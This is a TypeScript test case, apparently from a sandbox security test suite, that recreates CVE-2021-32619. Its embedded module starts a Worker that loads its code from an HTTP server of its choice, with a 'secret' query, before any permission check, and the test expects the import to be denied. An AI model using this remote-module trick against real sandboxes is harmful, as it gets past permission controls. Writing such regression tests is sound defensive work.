import { type Attack, denied, js } from "../attack.ts";
import { bareHost } from "../controls/bare_host.ts";
import { canaryHit } from "../proofs.ts";

export default {
  name: "worker_from_http",
  what: "Names a server of its choice as the module of a Worker, which is fetched before the " +
    "Worker has any rights.",
  advisory: "CVE-2021-32619",
  module: js`
    export default {
      async run(at, ctx) {
        const worker = new Worker("http://127.0.0.1:" + at.tcpPort + "/?secret", { type: "module" });
        return await new Promise((resolve, reject) => {
          setTimeout(resolve, 1_000);
          worker.onerror = (event) => {
            event.preventDefault();
            reject(new Error(event.message));
          };
        });
      },
    };`,
  limits: { memoryBytes: 900_000_000 },
  expect: denied("import"),
  control: bareHost("every right, in the realm of the host", { realm: "main" }),
  proof: canaryHit("tcp"),
} satisfies Attack;
